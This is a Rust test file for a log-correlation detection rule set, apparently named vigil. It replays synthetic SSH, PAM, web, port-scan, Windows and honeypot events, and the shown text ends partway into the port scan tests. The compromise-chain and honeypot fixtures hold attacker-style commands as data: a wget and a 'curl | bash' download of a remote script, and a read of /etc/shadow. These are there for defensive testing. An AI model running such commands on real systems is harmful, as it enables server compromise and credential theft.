//! The default rule set (`topologies/rules`), rule by rule, through the real binary: for every
//! rule that raises incidents (every correlation not referenced by another, every detection not
//! referenced by a correlation), events that must trigger it and near misses that must not:
//! one below the threshold, the same events spread just beyond the timespan, the wrong order of
//! a chain, filtered-out variants and events of another group. Each case is replayed alone with
//! `vigil replay --rules topologies/rules --year 2024 --lateness 1h` and its incidents are
//! compared with the expected ones in full (rule, group, count, merged), so a case also fails
//! when some other default rule fires on its events unexpectedly.
//!
//! Boundaries follow the engine's documented semantics (src/correlate/mod.rs): sliding windows
//! include both ends (events exactly `timespan` apart share a window, 1 ms more and they do
//! not), `gte: N` fires at the N-th event or value and then starts afresh, and `x-vigil:
//! suppress` merges a later incident of the same group into the open one when its time is at
//! most the cool-down after it (inclusive), adding up the counts.
//!
//! `every_incident_rule_is_tested` fails when a default rule raising incidents has no test here.

mod common;

use std::collections::BTreeSet;
use std::path::PathBuf;

use serde_json::{json, Value};
use vigil::rules::{CompileOptions, RuleSet};

use common::*;

// Titles of the rules raising incidents (what incidents carry in `rule.name`).
const SSH_BRUTE_FORCE: &str = "SSH Brute Force";
const SSH_BRUTE_FORCE_LOGIN: &str = "SSH Brute Force Followed By Successful Login";
const SSH_PASSWORD_SPRAYING: &str = "SSH Password Spraying";
const SSH_LOW_AND_SLOW: &str = "SSH Low And Slow Root Password Guessing";
const PAM_BRUTE_FORCE: &str = "PAM Authentication Failure Brute Force";
const LINUX_COMPROMISE_CHAIN: &str = "Linux Server Compromise Chain";
const WEB_SCAN: &str = "Web Content Discovery Scan";
const WEB_CMS_PROBE: &str = "Web CMS Admin Path Probing";
const VERTICAL_SCAN: &str = "Vertical Port Scan";
const HORIZONTAL_SCAN: &str = "Horizontal Port Scan Of Internal Hosts";
const WINDOWS_MANY_ACCOUNTS: &str = "Windows Logon Failures For Many Accounts From One Source";
const WINDOWS_LOCAL_SPRAYING: &str = "Windows Local Password Spraying On One Host";
const KERBEROASTING: &str = "Kerberoasting";
const LATERAL_NETWORK_LOGONS: &str = "Lateral Movement Via Network Logons To Many Hosts";
const LATERAL_WINRM: &str = "Lateral Movement Via WinRM To Several Hosts";
const LSASS_ACCESS: &str = "LSASS Memory Access With Credential Dumping Rights";
const HONEYPOT_CHAIN: &str = "Honeypot Compromise Chain";
const HONEYPOT_GUESSING: &str = "Honeypot Password Guessing";

/// Every rule with a test below; the coverage test compares it with the rule files.
const TESTED: &[&str] = &[
    SSH_BRUTE_FORCE,
    SSH_BRUTE_FORCE_LOGIN,
    SSH_PASSWORD_SPRAYING,
    SSH_LOW_AND_SLOW,
    PAM_BRUTE_FORCE,
    LINUX_COMPROMISE_CHAIN,
    WEB_SCAN,
    WEB_CMS_PROBE,
    VERTICAL_SCAN,
    HORIZONTAL_SCAN,
    WINDOWS_MANY_ACCOUNTS,
    WINDOWS_LOCAL_SPRAYING,
    KERBEROASTING,
    LATERAL_NETWORK_LOGONS,
    LATERAL_WINRM,
    LSASS_ACCESS,
    HONEYPOT_CHAIN,
    HONEYPOT_GUESSING,
    // baselines.yml: its rules need weeks of history per entity, so their cases (each injected
    // departure found, nothing else, any worker count) are in tests/baseline_rules.rs.
    "SSH Login From A New Source Network For The User",
    "Unusual Failed SSH Logins Followed By A Successful Login",
    "Host Contacting A New Destination Port",
    "Host Contacting Many New Destinations",
    "Host Outbound Traffic Volume Departs From Its History",
    "Web Client Request Rate Departs From Its History",
    "Web Client Error Share Departs From Its History",
];

fn rules_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("topologies").join("rules")
}

// ---------------------------------------------------------------------------------------------
// Time. Cases place events at millisecond offsets from 2024-03-01T00:00:00Z and start at 10:00;
// every format below writes the same instant, so one case's arithmetic reads the same whatever
// the log format.

const MS: i64 = 1;
const SEC: i64 = 1000;
const MIN: i64 = 60 * SEC;
const HOUR: i64 = 60 * MIN;
/// 10:00 UTC on 1 March 2024, where every case starts (a whole hour, so the hourly windows of
/// the persistence extension, aligned to the epoch, start there too).
const T: i64 = 10 * HOUR;
/// 2024-03-01T00:00:00Z in seconds since the epoch.
const EPOCH_2024_03_01: i64 = 1_709_251_200;

/// (day of March, hour, minute, second, millisecond) of an offset.
fn civil(t: i64) -> (i64, i64, i64, i64, i64) {
    assert!((0..30 * 24 * HOUR).contains(&t), "offset {t} ms leaves March 2024");
    (1 + t / (24 * HOUR), t / HOUR % 24, t / MIN % 60, t / SEC % 60, t % SEC)
}

/// `Mar  1 10:00:00`, the BSD syslog stamp (the year comes from `--year 2024`).
fn bsd(t: i64) -> String {
    let (d, h, m, s, ms) = civil(t);
    assert_eq!(ms, 0, "these syslog lines carry whole seconds");
    format!("Mar {d:>2} {h:02}:{m:02}:{s:02}")
}

/// `2024-03-01T10:00:00.000Z`.
fn iso(t: i64) -> String {
    let (d, h, m, s, ms) = civil(t);
    format!("2024-03-{d:02}T{h:02}:{m:02}:{s:02}.{ms:03}Z")
}

/// `01/Mar/2024:10:00:00 +0000`, the access log stamp.
fn clf(t: i64) -> String {
    let (d, h, m, s, ms) = civil(t);
    assert_eq!(ms, 0, "access logs carry whole seconds");
    format!("{d:02}/Mar/2024:{h:02}:{m:02}:{s:02} +0000")
}

/// Epoch seconds with a fraction, as Zeek writes `ts`.
fn epoch(t: i64) -> String {
    format!("{}.{:03}000", EPOCH_2024_03_01 + t / SEC, t % SEC)
}

// ---------------------------------------------------------------------------------------------
// Log lines, in the shapes of the fixtures in tests/fixtures.

/// A file of a case: its name (the extension is what a reader sees; vigil sniffs the format) and text.
type File = (&'static str, String);

fn file(name: &'static str, lines: impl IntoIterator<Item = String>) -> File {
    (name, lines.into_iter().map(|l| l + "\n").collect())
}

fn auth(lines: impl IntoIterator<Item = String>) -> File {
    file("auth.log", lines)
}

fn access(lines: impl IntoIterator<Item = String>) -> File {
    file("access.log", lines)
}

fn windows(events: impl IntoIterator<Item = String>) -> File {
    file("windows.json", events)
}

fn cowrie(events: impl IntoIterator<Item = String>) -> File {
    file("cowrie.json", events)
}

/// A Zeek conn.log in TSV, with the header lines Zeek writes.
fn conn_log(rows: impl IntoIterator<Item = String>) -> File {
    let header = [
        "#separator \\x09",
        "#set_separator\t,",
        "#empty_field\t(empty)",
        "#unset_field\t-",
        "#path\tconn",
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\tlocal_orig\tlocal_resp",
        "#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tbool\tbool",
    ];
    file("conn.log", header.iter().map(|h| h.to_string()).chain(rows))
}

/// sshd's `Failed password` line; `who` is `root` or `invalid user admin`.
fn ssh_failed(t: i64, who: &str, ip: &str) -> String {
    format!("{} srv1 sshd[2201]: Failed password for {who} from {ip} port {} ssh2", bsd(t), 40000 + t / SEC % 20000)
}

/// sshd's `Accepted` line: a password login (what a successful guess gives).
fn ssh_accepted(t: i64, host: &str, user: &str, ip: &str) -> String {
    format!("{} {host} sshd[2202]: Accepted password for {user} from {ip} port 50022 ssh2", bsd(t))
}

/// sshd's `Accepted` line for a key login (an intruder with a stolen key).
fn ssh_accepted_key(t: i64, host: &str, user: &str, ip: &str) -> String {
    format!("{} {host} sshd[2202]: Accepted publickey for {user} from {ip} port 50022 ssh2: RSA SHA256:Kl8kPGZrTiz7g4FO1hyqHdsSBBb5Fge6NWOobN03XJg", bsd(t))
}

/// A pam_unix authentication failure reported by sshd for a remote host.
fn pam_failure(t: i64, rhost: &str) -> String {
    format!("{} srv1 sshd[2203]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={rhost}  user=root", bsd(t))
}

fn sudo(t: i64, host: &str, user: &str, command: &str) -> String {
    format!("{} {host} sudo:    {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}", bsd(t))
}

fn request(t: i64, ip: &str, path: &str, status: u16) -> String {
    format!("{ip} - - [{}] \"GET {path} HTTP/1.1\" {status} 209 \"-\" \"gobuster/3.6\"", clf(t))
}

/// A conn.log row: a TCP or UDP connection attempt and its `conn_state`.
fn conn(t: i64, src: &str, dst: &str, port: u16, proto: &str, state: &str) -> String {
    let sport = 40000 + t / SEC % 20000;
    format!("{}\tC{t:x}p{port}\t{src}\t{sport}\t{dst}\t{port}\t{proto}\t{state}\tF\tT", epoch(t))
}

/// A Windows event as NXLog writes it (flat JSON, native field names) on `channel`.
fn win(t: i64, channel: &str, event_id: u32, mut fields: Value) -> String {
    let obj = fields.as_object_mut().expect("fields are an object");
    obj.insert("@timestamp".into(), json!(iso(t)));
    obj.insert("Channel".into(), json!(channel));
    obj.insert("EventID".into(), json!(event_id));
    fields.to_string()
}

fn security(t: i64, event_id: u32, fields: Value) -> String {
    win(t, "Security", event_id, fields)
}

fn sysmon(t: i64, event_id: u32, fields: Value) -> String {
    win(t, "Microsoft-Windows-Sysmon/Operational", event_id, fields)
}

/// A failed logon (4625) on `host` for `user`; `ip` None leaves `IpAddress` out.
fn logon_failure(t: i64, host: &str, user: &str, ip: Option<&str>) -> String {
    let mut f = json!({"Hostname": host, "TargetUserName": user, "TargetDomainName": "CORP", "LogonType": "3",
        "Status": "0xc000006d", "SubStatus": "0xc000006a", "IpPort": "-"});
    if let Some(ip) = ip {
        f["IpAddress"] = json!(ip);
    }
    security(t, 4625, f)
}

/// A Kerberos service ticket request (4769) on the domain controller.
fn service_ticket(t: i64, requester: &str, service: &str, encryption: &str, status: &str) -> String {
    security(
        t,
        4769,
        json!({"Hostname": "DC01.corp.local", "TargetUserName": requester, "TargetDomainName": "CORP.LOCAL", "ServiceName": service,
            "TicketEncryptionType": encryption, "TicketOptions": "0x40810000", "Status": status, "IpAddress": "::ffff:10.0.0.21"}),
    )
}

/// A successful logon (4624) of `user` on `host` with `logon_type`.
fn logon(t: i64, host: &str, user: &str, logon_type: &str) -> String {
    security(
        t,
        4624,
        json!({"Hostname": host, "TargetUserName": user, "TargetDomainName": "CORP", "LogonType": logon_type,
            "IpAddress": "10.0.0.21", "AuthenticationPackageName": "NTLM"}),
    )
}

/// A Sysmon process event (1: created, 5: terminated) of `image` run by `user` on `host`.
fn process(t: i64, event_id: u32, host: &str, user: &str, image: &str, parent: &str) -> String {
    sysmon(t, event_id, json!({"Hostname": host, "User": user, "Image": image, "ParentImage": parent, "CommandLine": image}))
}

/// A Sysmon process access (10) to `target` by `source` with `access` rights.
fn process_access(t: i64, source: &str, target: &str, access: &str) -> String {
    sysmon(
        t,
        10,
        json!({"Hostname": "WS05.corp.local", "SourceImage": source, "TargetImage": target, "GrantedAccess": access,
            "SourceUser": "CORP\\alice", "TargetUser": "NT AUTHORITY\\SYSTEM"}),
    )
}

/// A Cowrie honeypot event.
fn honeypot(t: i64, eventid: &str, ip: &str, session: &str) -> String {
    let mut e = json!({"eventid": eventid, "timestamp": iso(t), "src_ip": ip, "src_port": 40100, "session": session, "sensor": "hp1"});
    match eventid {
        "cowrie.login.success" | "cowrie.login.failed" => {
            e["username"] = json!("root");
            e["password"] = json!("123456");
        }
        "cowrie.command.input" | "cowrie.command.failed" => e["input"] = json!("wget http://198.51.100.5/x.sh"),
        _ => e["url"] = json!("http://198.51.100.5/x.sh"),
    }
    e.to_string()
}

// ---------------------------------------------------------------------------------------------
// Running cases.

/// One incident as compared: rule title, group (JSON), `vigil.count`, `vigil.suppressed`.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
struct Inc {
    rule: String,
    group: String,
    count: u64,
    merged: u64,
}

fn inc(rule: &str, group: Value, count: u64) -> Inc {
    Inc { rule: rule.to_string(), group: group.to_string(), count, merged: 0 }
}

impl Inc {
    /// With `n` later incidents merged into it by `x-vigil: suppress`.
    fn merged(mut self, n: u64) -> Inc {
        self.merged = n;
        self
    }
}

/// Replays `input` through the default rules; returns the incidents, sorted. Fails when a line
/// did not parse or came late (the dead-letter output is not empty): a case whose events do not
/// parse would test nothing.
fn replay(input: &File) -> Vec<Inc> {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(input.0), &input.1).unwrap();
    let rules = rules_dir();
    let args = ["replay", "-q", "--rules", rules.to_str().unwrap(), "--year", "2024", "--lateness", "1h", "--dead-letter", "dead.jsonl", input.0];
    let out = vigil_ok_in(dir.path(), &args);
    let dead = std::fs::read_to_string(dir.path().join("dead.jsonl")).unwrap_or_default();
    assert!(dead.is_empty(), "records of {} were dead-lettered:\n{dead}", input.0);
    let mut got: Vec<Inc> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            let i: Value = serde_json::from_str(l).unwrap();
            Inc {
                rule: i["rule"]["name"].as_str().unwrap_or_default().to_string(),
                group: i["vigil"]["group"].to_string(),
                count: i["vigil"]["count"].as_u64().unwrap_or_default(),
                merged: i["vigil"]["suppressed"].as_u64().unwrap_or_default(),
            }
        })
        .collect();
    got.sort();
    got
}

/// The cases of one rule. Every case runs, and [`Cases::finish`] reports all that failed.
struct Cases {
    rule: &'static str,
    failures: Vec<String>,
    fires: usize,
    silent: usize,
}

impl Cases {
    fn new(rule: &'static str) -> Cases {
        Cases { rule, failures: Vec::new(), fires: 0, silent: 0 }
    }

    fn run(&mut self, case: &str, input: File, mut want: Vec<Inc>) {
        want.sort();
        let got = replay(&input);
        if got != want {
            self.failures.push(format!("case {case:?}:\n  want {want:?}\n  got  {got:?}"));
        }
    }

    /// The rule must fire: `want` is every incident expected from the whole rule set.
    fn fires(&mut self, case: &str, input: File, want: impl IntoIterator<Item = Inc>) {
        let want: Vec<Inc> = want.into_iter().collect();
        assert!(want.iter().any(|i| i.rule == self.rule), "trigger case {case:?} expects no {:?} incident", self.rule);
        self.fires += 1;
        self.run(case, input, want);
    }

    /// A near miss: the rule must not fire; `others` are incidents other rules rightly raise.
    fn silent(&mut self, case: &str, input: File, others: impl IntoIterator<Item = Inc>) {
        let others: Vec<Inc> = others.into_iter().collect();
        assert!(others.iter().all(|i| i.rule != self.rule), "near-miss case {case:?} expects a {:?} incident", self.rule);
        self.silent += 1;
        self.run(case, input, others);
    }

    fn finish(self) {
        assert!(self.fires > 0 && self.silent > 0, "{:?} needs trigger cases and near misses", self.rule);
        assert!(self.failures.is_empty(), "{}: {} case(s) failed:\n{}", self.rule, self.failures.len(), self.failures.join("\n"));
    }
}

// ---------------------------------------------------------------------------------------------
// Linux: sshd, PAM and sudo in the auth log.

const SSH_ATTACKER: &str = "203.0.113.10";

/// `n` failed passwords from `ip`, `step` apart from `from`, alternating a valid account and an
/// invalid one (the building block counts both); two accounts, so no spraying.
fn ssh_failures(ip: &str, from: i64, n: i64, step: i64) -> Vec<String> {
    (0..n).map(|i| ssh_failed(from + i * step, if i % 2 == 0 { "admin" } else { "invalid user oracle" }, ip)).collect()
}

/// 19 failures a second apart from `T`, then the 20th at `T + at`.
fn ssh_failures_then_one_at(at: i64) -> Vec<String> {
    let mut lines = ssh_failures(SSH_ATTACKER, T, 19, SEC);
    lines.push(ssh_failed(T + at, "admin", SSH_ATTACKER));
    lines
}

fn brute_force(count: u64) -> Inc {
    inc(SSH_BRUTE_FORCE, json!({"source.ip": SSH_ATTACKER}), count)
}

#[test]
fn ssh_brute_force() {
    let mut c = Cases::new(SSH_BRUTE_FORCE);
    c.fires("20 failures in 20 s", auth(ssh_failures(SSH_ATTACKER, T, 20, SEC)), [brute_force(20)]);
    // rsyslog folds repeats: one line plus `message repeated 19 times: [...]` are 20 failures.
    let folded = format!("{} srv1 sshd[2201]: message repeated 19 times: [ Failed password for admin from {SSH_ATTACKER} port 40001 ssh2]", bsd(T + SEC));
    c.fires("1 line + `message repeated 19 times`", auth([ssh_failed(T, "admin", SSH_ATTACKER), folded]), [brute_force(20)]);
    // Both window ends are inclusive: the 20th failure exactly 5 min after the first counts.
    c.fires("20th failure exactly 5 min after the first", auth(ssh_failures_then_one_at(5 * MIN)), [brute_force(20)]);
    c.silent("19 failures", auth(ssh_failures(SSH_ATTACKER, T, 19, SEC)), []);
    c.silent("20th failure 5 min 1 s after the first", auth(ssh_failures_then_one_at(5 * MIN + SEC)), []);
    let two_sources = (0..20).map(|i| ssh_failed(T + i * SEC, "admin", if i % 2 == 0 { SSH_ATTACKER } else { "203.0.113.11" }));
    c.silent("20 failures from two sources", auth(two_sources), []);
    // sshd's `Invalid user` notice is not a failed password (the failure line follows it).
    let notices = (0..20).map(|i| format!("{} srv1 sshd[2201]: Invalid user oracle{i} from {SSH_ATTACKER} port 40001", bsd(T + i * SEC)));
    c.silent("20 `Invalid user` notices", auth(notices), []);
    // x-vigil suppress (1 h): the second window of a burst merges into the first incident...
    c.fires("40 failures in one burst", auth(ssh_failures(SSH_ATTACKER, T, 40, SEC)), [brute_force(40).merged(1)]);
    // ... as does a burst whose alert comes exactly 1 h after the first alert (at T + 19 s) ...
    let mut bursts = ssh_failures(SSH_ATTACKER, T, 20, SEC);
    bursts.extend(ssh_failures(SSH_ATTACKER, T + HOUR, 20, SEC));
    c.fires("second burst alerting exactly 1 h later", auth(bursts), [brute_force(40).merged(1)]);
    // ... while 1 s later it is a new incident.
    let mut bursts = ssh_failures(SSH_ATTACKER, T, 20, SEC);
    bursts.extend(ssh_failures(SSH_ATTACKER, T + HOUR + SEC, 20, SEC));
    c.fires("second burst alerting 1 h 1 s later", auth(bursts), [brute_force(20), brute_force(20)]);
    c.finish();
}

#[test]
fn ssh_brute_force_followed_by_login() {
    let mut c = Cases::new(SSH_BRUTE_FORCE_LOGIN);
    let chain = inc(SSH_BRUTE_FORCE_LOGIN, json!({"source.ip": SSH_ATTACKER}), 2);
    // The brute-force step completes at the 20th failure, T + 19 s; the chain's 30 min run from there.
    let alert = T + 19 * SEC;
    let with_login = |at: i64, ip: &str| {
        let mut lines = ssh_failures(SSH_ATTACKER, T, 20, SEC);
        lines.push(ssh_accepted(at, "srv1", "admin", ip));
        auth(lines)
    };
    c.fires("20 failures, login 1 min later", with_login(alert + MIN, SSH_ATTACKER), [brute_force(20), chain.clone()]);
    c.fires("login exactly 30 min after the brute force", with_login(alert + 30 * MIN, SSH_ATTACKER), [brute_force(20), chain]);
    c.silent("login 30 min 1 s after the brute force", with_login(alert + 30 * MIN + SEC, SSH_ATTACKER), [brute_force(20)]);
    c.silent("login from another address", with_login(alert + MIN, "198.51.100.3"), [brute_force(20)]);
    let mut before = vec![ssh_accepted(T - MIN, "srv1", "admin", SSH_ATTACKER)];
    before.extend(ssh_failures(SSH_ATTACKER, T, 20, SEC));
    c.silent("login before the brute force", auth(before), [brute_force(20)]);
    let mut few = ssh_failures(SSH_ATTACKER, T, 19, SEC);
    few.push(ssh_accepted(alert + MIN, "srv1", "admin", SSH_ATTACKER));
    c.silent("19 failures, then a login", auth(few), []);
    c.finish();
}

/// Failed passwords for `accounts` distinct invalid users (`user00`, ...), one attempt each in
/// turn, `n` in all, `step` apart, from `ip`.
fn spray(ip: &str, accounts: i64, n: i64, step: i64) -> Vec<String> {
    (0..n).map(|i| ssh_failed(T + i * step, &format!("invalid user user{:02}", i % accounts), ip)).collect()
}

#[test]
fn ssh_password_spraying() {
    let mut c = Cases::new(SSH_PASSWORD_SPRAYING);
    let spraying = |count| inc(SSH_PASSWORD_SPRAYING, json!({"source.ip": SSH_ATTACKER}), count);
    // 20 s apart: a 5 min window never holds 20 failures, so the brute-force rule stays out.
    c.fires("15 accounts, one attempt each", auth(spray(SSH_ATTACKER, 15, 15, 20 * SEC)), [spraying(15)]);
    let with_last_at = |at: i64| {
        let mut lines = spray(SSH_ATTACKER, 15, 14, 20 * SEC);
        lines.push(ssh_failed(T + at, "invalid user user14", SSH_ATTACKER));
        auth(lines)
    };
    c.fires("15th account exactly 30 min after the first", with_last_at(30 * MIN), [spraying(15)]);
    c.silent("15th account 30 min 1 s after the first", with_last_at(30 * MIN + SEC), []);
    c.silent("14 accounts", auth(spray(SSH_ATTACKER, 14, 14, 20 * SEC)), []);
    // Distinct accounts count, not attempts: 20 failures over 14 accounts are a brute force only.
    c.silent("20 failures over 14 accounts", auth(spray(SSH_ATTACKER, 14, 20, 10 * SEC)), [brute_force(20)]);
    let distributed = (0..15).map(|i| ssh_failed(T + i * 20 * SEC, &format!("invalid user user{i:02}"), &format!("203.0.113.{}", 100 + i)));
    c.silent("15 accounts from 15 sources", auth(distributed), []);
    c.fires("30 accounts (second window merged)", auth(spray(SSH_ATTACKER, 30, 30, 20 * SEC)), [spraying(30).merged(1)]);
    c.finish();
}

/// Root password failures from the attacker: `per_hour[h]` of them in hour `h` after `T`, at
/// 10, 30 and 50 minutes past.
fn root_guesses(user: &str, per_hour: &[i64]) -> File {
    let lines = per_hour.iter().enumerate().flat_map(|(h, &n)| (0..n).map(move |k| T + h as i64 * HOUR + 10 * MIN + k * 20 * MIN));
    auth(lines.map(|t| ssh_failed(t, user, SSH_ATTACKER)).collect::<Vec<_>>())
}

#[test]
fn ssh_low_and_slow_root_guessing() {
    let mut c = Cases::new(SSH_LOW_AND_SLOW);
    // x-vigil persistence: the count is the last window's (2); the window is the epoch-aligned hour.
    let slow = |count| inc(SSH_LOW_AND_SLOW, json!({"source.ip": SSH_ATTACKER}), count);
    c.fires("2 guesses in each of 3 hours", root_guesses("root", &[2, 2, 2]), [slow(2)]);
    c.silent("2 guesses in each of 2 hours", root_guesses("root", &[2, 2]), []);
    c.silent("only 1 guess in the middle hour", root_guesses("root", &[2, 1, 2]), []);
    c.silent("a quiet hour between", root_guesses("root", &[2, 2, 0, 2]), []);
    c.silent("another account than root", root_guesses("admin", &[2, 2, 2]), []);
    // Two streaks in 6 hours: x-vigil suppress (12 h) merges the second into the first incident.
    c.fires("2 guesses in each of 6 hours", root_guesses("root", &[2, 2, 2, 2, 2, 2]), [slow(4).merged(1)]);
    c.finish();
}

const PAM_ATTACKER: &str = "198.51.100.20";

fn pam_failures(rhost: &str, n: i64) -> Vec<String> {
    (0..n).map(|i| pam_failure(T + i * 10 * SEC, rhost)).collect()
}

#[test]
fn pam_brute_force() {
    let mut c = Cases::new(PAM_BRUTE_FORCE);
    let pam = |count| inc(PAM_BRUTE_FORCE, json!({"remote_host": PAM_ATTACKER}), count);
    c.fires("10 failures in 90 s", auth(pam_failures(PAM_ATTACKER, 10)), [pam(10)]);
    // The older `sshd(pam_unix)` program form (as in the loghub Linux logs) counts the same.
    let legacy = (0..10).map(|i| {
        format!(
            "{} srv1 sshd(pam_unix)[20882]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost={PAM_ATTACKER}  user=root",
            bsd(T + i * 10 * SEC)
        )
    });
    c.fires("10 failures, sshd(pam_unix) form", auth(legacy), [pam(10)]);
    let with_last_at = |at: i64| {
        let mut lines: Vec<String> = (0..9).map(|i| pam_failure(T + i * SEC, PAM_ATTACKER)).collect();
        lines.push(pam_failure(T + at, PAM_ATTACKER));
        auth(lines)
    };
    c.fires("10th failure exactly 5 min after the first", with_last_at(5 * MIN), [pam(10)]);
    c.silent("10th failure 5 min 1 s after the first", with_last_at(5 * MIN + SEC), []);
    c.silent("9 failures", auth(pam_failures(PAM_ATTACKER, 9)), []);
    // sudo's failures are local: pam_unix reports an empty rhost.
    let local = (0..10).map(|i| {
        format!(
            "{} srv1 sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
            bsd(T + i * 10 * SEC)
        )
    });
    c.silent("10 local sudo failures", auth(local), []);
    c.fires("20 failures (second window merged)", auth(pam_failures(PAM_ATTACKER, 20)), [pam(20).merged(1)]);
    c.finish();
}

const RECON: &str = "/usr/bin/id";
const DOWNLOAD: &str = "/usr/bin/wget http://198.51.100.9/x.sh -O /tmp/x.sh";

/// alice logs in to `login_host` with a key, then `sudo_user` runs each step's command through
/// sudo on web-1 at its offset.
fn compromise(login_host: &str, sudo_user: &str, steps: &[(i64, &str)]) -> File {
    let mut lines = vec![ssh_accepted_key(T, login_host, "alice", "192.0.2.77")];
    lines.extend(steps.iter().map(|&(at, command)| sudo(T + at, "web-1", sudo_user, command)));
    auth(lines)
}

#[test]
fn linux_server_compromise_chain() {
    let mut c = Cases::new(LINUX_COMPROMISE_CHAIN);
    let chain = inc(LINUX_COMPROMISE_CHAIN, json!({"host.hostname": "web-1", "user.name": "alice"}), 3);
    c.fires("login, id, wget to /tmp", compromise("web-1", "alice", &[(MIN, RECON), (2 * MIN, DOWNLOAD)]), [chain.clone()]);
    let piped = "/usr/bin/bash -c curl -s http://198.51.100.9/x.sh | bash";
    c.fires("login, cat /etc/shadow, curl | bash", compromise("web-1", "alice", &[(MIN, "/usr/bin/cat /etc/shadow"), (2 * MIN, piped)]), [chain.clone()]);
    c.fires("download exactly 30 min after the login", compromise("web-1", "alice", &[(MIN, RECON), (30 * MIN, DOWNLOAD)]), [chain]);
    c.silent("download 30 min 1 s after the login", compromise("web-1", "alice", &[(MIN, RECON), (30 * MIN + SEC, DOWNLOAD)]), []);
    c.silent("download before the reconnaissance", compromise("web-1", "alice", &[(MIN, DOWNLOAD), (2 * MIN, RECON)]), []);
    c.silent("login on another host", compromise("web-2", "alice", &[(MIN, RECON), (2 * MIN, DOWNLOAD)]), []);
    c.silent("commands by another account", compromise("web-1", "bob", &[(MIN, RECON), (2 * MIN, DOWNLOAD)]), []);
    let no_tmp = "/usr/bin/wget http://198.51.100.9/x.sh -O /opt/app/x.sh";
    c.silent("download outside temporary folders", compromise("web-1", "alice", &[(MIN, RECON), (2 * MIN, no_tmp)]), []);
    c.finish();
}

// ---------------------------------------------------------------------------------------------
// Web: the Apache access log.

const WEB_SCANNER: &str = "198.51.100.77";

/// `n` requests from the scanner, `step` apart, for `/probe-<i % paths>`, answered `status`.
fn probes(n: i64, paths: i64, step: i64, status: u16) -> Vec<String> {
    (0..n).map(|i| request(T + i * step, WEB_SCANNER, &format!("/probe-{}", i % paths), status)).collect()
}

#[test]
fn web_content_discovery_scan() {
    let mut c = Cases::new(WEB_SCAN);
    let scan = |count| inc(WEB_SCAN, json!({"source.ip": WEB_SCANNER}), count);
    c.fires("50 missing paths in 98 s", access(probes(50, 50, 2 * SEC, 404)), [scan(50)]);
    let with_last_at = |at: i64| {
        let mut lines = probes(49, 49, SEC, 404);
        lines.push(request(T + at, WEB_SCANNER, "/probe-last", 404));
        access(lines)
    };
    c.fires("50th path exactly 2 min after the first", with_last_at(2 * MIN), [scan(50)]);
    c.silent("50th path 2 min 1 s after the first", with_last_at(2 * MIN + SEC), []);
    c.silent("49 missing paths", access(probes(49, 49, SEC, 404)), []);
    c.silent("50 requests for 49 paths", access(probes(50, 49, SEC, 404)), []);
    c.silent("50 paths answered 403", access(probes(50, 50, SEC, 403)), []);
    // Distinct url.path: the query string does not make a path new.
    let queries = (0..50).map(|i| request(T + i * SEC, WEB_SCANNER, &format!("/search?q={i}"), 404));
    c.silent("50 queries of one path", access(queries), []);
    let many = (0..50).map(|i| request(T + i * SEC, &format!("198.51.100.{}", 100 + i), &format!("/probe-{i}"), 404));
    c.silent("50 paths from 50 clients", access(many), []);
    c.fires("100 missing paths (second window merged)", access(probes(100, 100, SEC, 404)), [scan(100).merged(1)]);
    c.finish();
}

#[test]
fn web_cms_admin_path_probing() {
    let mut c = Cases::new(WEB_CMS_PROBE);
    let probe = |count| inc(WEB_CMS_PROBE, json!({"source.ip": WEB_SCANNER}), count);
    let at = |paths: &[(i64, &str, u16)]| access(paths.iter().map(|(t, path, status)| request(T + t, WEB_SCANNER, path, *status)));
    // As in the Elastic Apache sample: a few CMS paths each, seconds apart.
    c.fires("wp-login then administrator", at(&[(0, "/wp-login.php", 404), (9 * SEC, "/administrator/index.php", 404)]), [probe(2)]);
    // Fires at the second path; the third starts a fresh window (sliding windows restart after an alert).
    c.fires("three CMS paths", at(&[(0, "/wp-login.php", 404), (14 * SEC, "/administrator/", 404), (26 * SEC, "/admin.php", 404)]), [probe(2)]);
    c.fires("second path exactly 5 min later", at(&[(0, "/wp-admin/", 404), (5 * MIN, "/phpmyadmin/", 404)]), [probe(2)]);
    c.silent("second path 5 min 1 s later", at(&[(0, "/wp-admin/", 404), (5 * MIN + SEC, "/phpmyadmin/", 404)]), []);
    c.silent("one CMS path twice", at(&[(0, "/wp-login.php", 404), (SEC, "/wp-login.php", 404)]), []);
    c.silent("the site runs WordPress (200)", at(&[(0, "/wp-login.php", 200), (SEC, "/wp-admin/", 302)]), []);
    c.silent("ordinary missing pages", at(&[(0, "/old-post.html", 404), (SEC, "/favicon.ico", 404)]), []);
    let two_clients = access([request(T, WEB_SCANNER, "/wp-login.php", 404), request(T + SEC, "198.51.100.78", "/admin.php", 404)]);
    c.silent("two clients, one path each", two_clients, []);
    c.fires(
        "a second probe within the hour merges",
        at(&[(0, "/wp-login.php", 404), (SEC, "/admin.php", 404), (30 * MIN, "/wp-admin/", 404), (30 * MIN + SEC, "/xmlrpc.php", 404)]),
        [probe(4).merged(1)],
    );
    c.finish();
}

// ---------------------------------------------------------------------------------------------
// Zeek conn.log.

const EXTERNAL_SCANNER: &str = "203.0.113.66";
/// Every conn_state the probe rules take, in turn.
const PROBE_STATES: [&str; 7] = ["S0", "REJ", "RSTO", "RSTOS0", "RSTR", "SH", "SHR"];

/// Probes of `ports` ports (1000, 1001, ...) of `dst`, one per `step`, in every probe state.
fn port_probes(dst: &str, ports: u16, step: i64, proto: &str, state: Option<&str>) -> Vec<String> {
    (0..ports)
        .map(|i| {
            let state = state.unwrap_or(PROBE_STATES[usize::from(i) % PROBE_STATES.len()]);
            conn(T + i64::from(i) * step, EXTERNAL_SCANNER, dst, 1000 + i, proto, state)
        })
        .collect()
}

#[test]
fn vertical_port_scan() {
    let mut c = Cases::new(VERTICAL_SCAN);
